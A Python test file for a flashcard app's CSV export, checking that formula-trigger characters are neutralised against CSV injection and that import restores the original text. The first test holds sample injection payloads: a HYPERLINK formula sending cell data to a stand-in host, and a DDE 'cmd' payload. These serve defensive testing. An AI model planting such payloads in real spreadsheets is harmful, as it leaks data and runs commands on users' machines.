"""CSV export neutralises formulas (OWASP's CSV injection advice); import undoes exactly that."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from studykit.export.csv_format import deck_to_csv
from studykit.export.csv_reader import read_csv_deck
from studykit.model import BasicCard, Deck, Source, TypedCard

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP, CSV Injection)."""


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows[1:] for cell in row]


def _round_trip(deck: Deck) -> Deck:
    return read_csv_deck(deck_to_csv(deck).encode("utf-8"), "deck.csv", deck.id, deck.title)


def test_formulas_reach_the_file_as_text() -> None:
    card = BasicCard(
        id="f",
        front='=HYPERLINK("http://evil.example/?"&A1,"click")',
        back="+1+2",
        explanation="@SUM(1,2)",
        tags=("-2+3",),
    )
    source = Source(id="s", title="\tcmd|' /C calc'!A0", url="", note="\rnote")
    deck = Deck(id="d", title="D", sources=(source,), cards=(card,))
    cells = _cells(deck_to_csv(deck))
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert "'\tcmd|' /C calc'!A0" in cells


def test_a_cell_that_starts_with_a_quote_survives() -> None:
    card = TypedCard(id="q", question="'tis a question", answers=("'=1", "''+2", "'", "=3"))
    deck = Deck(id="d", title="D", cards=(card,))
    assert _round_trip(deck) == deck
    assert "'tis a question" in _cells(deck_to_csv(deck))  # nothing to neutralise: unchanged


_START = st.sampled_from(["", "'", "''", *TRIGGERS[:5]])
_TEXT = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"], exclude_characters="\r\0"),
    max_size=12,
)


@st.composite
def _cell(draw: st.DrawFn) -> str:
    """Return text that starts with quotes and formula characters more often than not."""
    text = "".join(draw(st.lists(_START, max_size=3))) + draw(_TEXT)
    return text if text.strip() else "x" + text


@settings(max_examples=300, deadline=None)
@given(front=_cell(), back=_cell(), note=_cell(), answers=st.lists(_cell(), min_size=1, max_size=3))
def test_no_cell_starts_a_formula_and_the_round_trip_is_lossless(
    front: str, back: str, note: str, answers: list[str]
) -> None:
    answers = [a.replace("\n", " ") for a in answers]
    cards = (
        BasicCard(id="b", front=front, back=back, explanation=note),
        TypedCard(
            id="t", question=front, answers=tuple(dict.fromkeys(a for a in answers if a.strip()))
        ),
    )
    deck = Deck(id="d", title="D", cards=cards)
    if not cards[1].answers:
        return
    assert [c for c in _cells(deck_to_csv(deck)) if c.startswith(TRIGGERS)] == []
    assert _round_trip(deck) == deck
